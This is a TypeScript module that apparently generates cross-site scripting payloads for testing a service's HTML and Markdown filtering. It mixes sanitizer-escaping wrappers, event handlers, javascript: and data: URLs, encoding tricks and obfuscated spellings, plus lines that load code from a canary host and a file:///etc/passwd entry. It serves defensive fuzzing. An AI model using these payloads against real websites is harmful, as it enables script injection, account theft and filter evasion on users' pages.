/** Generates payloads that try to run `pwned(1)` or to load something. The same number gives the same payloads. @module */

import { listed } from '../samples/listed.ts'
import { addressPayloads, textPayloads } from '../samples/payloads.ts'
import { canaryHost, events, firing, loaders, tags, templates } from './xss-elements.ts'

const codes: readonly string[] = [
  ...listed(
    'pwned(1)¦pwned`1`¦top.pwned(1)¦self["pwned"](1)¦eval(\'pwned(1)\')¦(0,pwned)(1)',
    'setTimeout("pwned(1)")¦[1].map(pwned)¦throw/**/onerror=pwned,1¦alert(1)',
  ),
  `import('//${canaryHost}/a.js')`,
  `fetch('//${canaryHost}/a')`,
  `location='//${canaryHost}/'`,
  'pwn\\u0065d(1)',
]

const separators: readonly string[] = listed(' ¦\t¦\u000c¦/¦\n¦ / ¦ x=1 ¦ x="y" ¦\r')
const endings: readonly string[] = listed('>¦ >¦/>¦//¦¦ <¦\n>¦>>¦ x>¦ -->')
const quotings: readonly ((code: string) => string)[] = [
  (code) => code,
  (code) => `"${code.replaceAll('"', '&quot;')}"`,
  (code) => `'${code.replaceAll("'", '&#39;')}'`,
  (code) => `\`${code}\``,
  (code) => ` ${code}`,
  (code) => [...code].map((character) => `&#${character.codePointAt(0)};`).join(''),
]
const cases: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => text.replace(/[a-z]/g, (letter, at) => (at % 2 ? letter : letter.toUpperCase())),
]

const wrappers: readonly (readonly [before: string, after: string])[] = [
  ['', ''],
  ['">', ''],
  ["'>", ''],
  ['`>', ''],
  ['"/>', ''],
  ['-->', ''],
  ['--!>', ''],
  ['<!-->', '-->'],
  ['<!--->', ''],
  ['<!--', '-->'],
  ['<!--<!---->', '-->'],
  ['<![CDATA[', ']]>'],
  [']]>', ''],
  ['<?x ', '?>'],
  ['<!x ', '>'],
  ['<!DOCTYPE x [', ']>'],
  ['</title>', ''],
  ['</style>', ''],
  ['</script>', ''],
  ['</textarea>', ''],
  ['</noscript>', ''],
  ['</xmp>', ''],
  ['</code></pre>', ''],
  ['</p></div></main>', ''],
  ['</a>', ''],
  ['</svg>', ''],
  ['<svg>', '</svg>'],
  ['<svg><style>', '</style></svg>'],
  ['<svg><desc><style>', ''],
  ['<svg><title><style>', ''],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><mtext><table><mglyph><style><!--</style>', ''],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<form><math><mtext></form><form><mglyph><style></math>', ''],
  ['<math><mi//xlink:href="x"><style><!--</style>', ''],
  ['<noscript><p title="</noscript>', '">'],
  ['<noembed><p title="</noembed>', '">'],
  ['<noframes><style></noframes>', ''],
  ['<title><p title="</title>', '">'],
  ['<textarea><p title="</textarea>', '">'],
  ['<xmp><p title="</xmp>', '">'],
  ['<iframe><p title="</iframe>', '">'],
  ['<style><p title="</style>', '">'],
  ['<template>', '</template>'],
  ['<template shadowrootmode=open>', '</template>'],
  ['<select><template>', '</template></select>'],
  ['<select><option><style></select>', ''],
  ['<table><tr><td><table>', ''],
  ['<table><caption>', '</caption></table>'],
  ['<details open><summary>', '</summary></details>'],
  ['<details open>\n\n', '\n\n</details>'],
  ['<div>\n\n', '\n\n</div>'],
  ['<p align="', '">'],
  ['<a href="', '">x</a>'],
  ["<a href='", "'>x</a>"],
  ['<img src="x" alt="', '">'],
  ['<img src="', '">'],
  ["<img alt='", "' src=x>"],
  ['<span style="', '">x</span>'],
  ['<span title="x', '">x</span>'],
  ["<iframe srcdoc='", "'></iframe>"],
  ["<object data='data:text/html,", "'></object>"],
  ['<b ', '>'],
  ['<', '>'],
  ['<<', ''],
  ['<b>**', '**</b>'],
  ['\\', ''],
  ['`', '`'],
  ['[', '](x)'],
  ['[x](', ')'],
  ['[x](x "', '")'],
  ['[x](<', '>)'],
  ['![', '](x)'],
  ["![x](x '", "')"],
  ['<http://x/', '>'],
  ['http://x/', ''],
  ['$', '$'],
  [':', ':'],
  ['{', '}'],
  ['[^', ']'],
  ['| ', ' |'],
  ['&lt;/p&gt;', ''],
  ['\u2028', '\u2029'],
  ['\ufeff', ''],
  ['\u202e', ''],
]

const encodings: readonly ((payload: string) => string)[] = [
  same,
  same,
  same,
  same,
  same,
  same,
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => payload.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  (payload) => payload.replaceAll('<', '&#x3C').replaceAll('>', '&#x3e'),
  (payload) => payload.replaceAll('<', '&LT;').replaceAll('>', '&GT;').replaceAll('"', '&quot;'),
  (payload) => payload.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (payload) => payload.replaceAll('<', '\\<').replaceAll('"', '\\"'),
  (payload) => payload.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (payload) => payload.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  (payload) => payload.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (payload) => payload.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (payload) => payload.replaceAll('<', '\u02c2').replaceAll('=', '\u2550'),
  (payload) => payload.replaceAll('<', '%3C').replaceAll('>', '%3E').replaceAll('"', '%22'),
  (payload) => payload.replaceAll('<', '<\u0001'),
  (payload) => payload.replace(/<(\w)/g, '<$1\u0001'),
  (payload) => payload.replaceAll('on', 'o\u0001n'),
  (payload) => payload.replaceAll('=', '\u0001='),
  (payload) => payload.replaceAll(' ', '\u00a0'),
  (payload) => payload.replaceAll('<', '<\u200b'),
  (payload) => [...payload].map((character) => `&#${character.codePointAt(0)};`).join(''),
]

const schemes: readonly string[] = listed(
  'javascript:pwned(1)¦javascript:top.pwned(1)¦javascript://x.example/%0apwned(1)',
  'javascript:/*--></script><svg/onload=pwned(1)>*/pwned(1)',
  'javascript:"<script>opener.pwned(1)</script>"¦vbscript:pwned(1)',
  'data:text/html,<script>opener.pwned(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==',
  'data:text/html;charset=utf-7,+ADw-script+AD4-pwned(1)+ADw-/script+AD4-',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">pwned(1)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned(1)"/>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKDEpIi8+',
  'data:image/png;base64,"><img src=x onerror=pwned(1)>',
  'data:image/png,<script>pwned(1)</script>',
  'data:text/xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned(1)</x:script>',
  'data:,pwned(1)¦blob:null/pwned(1)¦view-source:javascript:pwned(1)¦about:srcdoc',
  'file:///etc/passwd¦http:javascript:pwned(1)¦https://x.example/" onmouseover="pwned(1)',
  "https://x.example/' onmouseover='pwned(1)¦https://x.example/`onmouseover=pwned(1)",
  'https://x.example/"><script>pwned(1)</script>¦mailto:a@b.example?"onmouseover="pwned(1)',
  '#" onfocus="pwned(1)" autofocus="¦#"><img src=x onerror=pwned(1)>',
  '?"><img src=x onerror=pwned(1)>¦//canary.invalid/"><script>pwned(1)</script>',
  '\\\\canary.invalid\\x" onclick="pwned(1)',
)

/** Spellings that browsers, or hasty filters, read as the same address. */
const spellings: readonly ((address: string) => string)[] = [
  same,
  (address) => address.toUpperCase().replace('PWNED', 'pwned'),
  (address) => address.replace(/^./, (letter) => letter.toUpperCase()),
  (address) => ` ${address}`,
  (address) => `\t${address}`,
  (address) => `\n${address}`,
  (address) => `\u0001${address}`,
  (address) => `&#0;${address}`,
  (address) => `\u00a0${address}`,
  (address) => `\ufeff${address}`,
  (address) => `\u200b${address}`,
  (address) => `\u00ad${address}`,
  (address) => address.replace(/^(..)/, '$1\t'),
  (address) => address.replace(/^(..)/, '$1\n'),
  (address) => address.replace(/^(..)/, '$1\u000b'),
  (address) => address.replace(/^(..)/, '$1\u200b'),
  (address) => address.replace(/^(..)/, '$1 '),
  (address) => address.replace(':', '\n:'),
  (address) => address.replace(':', ' :'),
  (address) => address.replace(':', '&colon;'),
  (address) => address.replace(':', '&#58;'),
  (address) => address.replace(':', '&#x3A;'),
  (address) => address.replace(':', '\\:'),
  (address) => address.replace(':', '%3A'),
  (address) => address.replace(':', '\uff1a'),
  (address) => address.replace(':', '&Tab;:'),
  (address) => address.replace(/^(...)/, '$1&NewLine;'),
  (address) => address.replace(/^(...)/, '$1&#9;'),
  (address) => address.replace(/^(...)/, '$1%09'),
  (address) => `&#1;${address}`,
  (address) => `&#x20;&#x0a;${address}`,
  (address) => `%20${address}`,
  (address) => `%6a${address.slice(1)}`,
  (address) => address.replace('s', '\u017f'),
  (address) => address.replace('i', '\u0131'),
  (address) => [...address].map((character) => `&#${character.codePointAt(0)};`).join(''),
  (address) =>
    [...address].map((character) => `&#x${character.charCodeAt(0).toString(16)}`).join(''),
  (address) => encodeURIComponent(address),
  (address) => `http://x.example/?${address}`,
  (address) => `//${address}`,
  (address) => `./${address}`,
  (address) => `/${address}`,
  (address) => `url(${address})`,
  (address) => `"${address}"`,
  (address) => `'${address}'`,
  (address) => `\`${address}\``,
  (address) => `<${address}>`,
  (address) => `${address}#`,
  (address) => `${address}//http://x.example`,
]

function same(text: string): string {
  return text
}

export function xssPayloads(count: number): string[] {
  const payloads = new Set([
    ...[...textPayloads, ...addressPayloads].map(asPwned),
    ...loaders,
    ...templates,
    ...firing.map((element) => `<${element}=pwned(1)>`),
    ...schemes,
    ...spellings.map((spell) => spell('javascript:pwned(1)')),
    ...wrappers.map(([before, after]) => `${before}<img src=x onerror=pwned(1)>${after}`),
    ...events.map((event) => `<b on${event}=pwned(1)>x</b>`),
  ])
  for (let index = 0; payloads.size < count; index += 1) payloads.add(combined(index))
  return [...payloads].slice(0, count)
}

/** The service refuses NUL, so content holds it only by reference. */
function asPwned(payload: string): string {
  return payload.replaceAll(/alert\(1\)|msgbox\(1\)/g, 'pwned(1)').replaceAll('\0', '&#0;')
}

function chooser(index: number): <Item>(items: readonly Item[]) => Item {
  let state = index + 0x9e3779b9
  return (items) => {
    state = Math.imul(state ^ (state >>> 15), 0x85ebca6b) + 0x6d2b79f5
    state ^= state >>> 13
    return items[(state >>> 0) % items.length] as (typeof items)[number]
  }
}

function combined(index: number): string {
  const choose = chooser(index)
  if (index % 4 === 0) return choose(spellings)(choose(schemes).replace('pwned(1)', choose(codes)))
  const payload = index % 4 === 1 ? anyEvent(choose) : firingElement(choose)
  const [before, after] = choose(wrappers)
  return choose(encodings)(before + payload + after)
}

type Choose = ReturnType<typeof chooser>

function firingElement(choose: Choose): string {
  const element = choose(cases)(choose(firing)).replaceAll(' ', choose(separators))
  return `<${element}=${choose(quotings)(choose(codes))}${choose(endings)}`
}

function anyEvent(choose: Choose): string {
  const attribute = `on${choose(cases)(choose(events))}=${choose(quotings)(choose(codes))}`
  return choose([
    () => `<${choose(cases)(choose(tags))}${choose(separators)}${attribute}${choose(endings)}x`,
    () => `${choose(['"', "'", '`', '', '" ', '\\"'])}${choose(separators)}${attribute} x="`,
  ])()
}
